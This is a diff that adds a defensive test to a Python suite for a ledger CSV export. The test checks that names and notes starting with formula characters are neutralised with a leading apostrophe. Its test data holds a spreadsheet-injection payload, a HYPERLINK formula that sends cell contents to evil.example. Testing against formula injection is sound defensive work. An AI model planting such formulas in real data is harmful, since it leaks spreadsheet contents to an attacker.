@@ -184,6 +184,19 @@ def test_it_round_trips_each_ledger_row(staff_client: Client, seeded: dict[str, 
     assert [row["created_utc"] for row in rows] == sorted(row["created_utc"] for row in rows)
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_it_neutralises_names_a_spreadsheet_would_run_as_formulas(
+    staff_client: Client, alice: User, start: str
+) -> None:
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    team = make_team(alice, hostile, quota=None)
+    charge = _charge(alice, TODAY, team)
+    Charge.objects.filter(pk=charge.pk).update(note=hostile)
+    _, rows = _csv(staff_client, start="2026-11-01", end="2026-11-30")
+    assert rows[0]["team"] == rows[0]["note"] == "'" + hostile
+    assert rows[0]["user"] == "alice" and rows[0]["amount_cents"] == "1"
+
+
 def test_it_exports_only_the_range(staff_client: Client, seeded: dict[str, Any]) -> None:
     _, rows = _csv(staff_client, start="2026-09-01", end="2026-10-31")
     assert len(rows) == 2
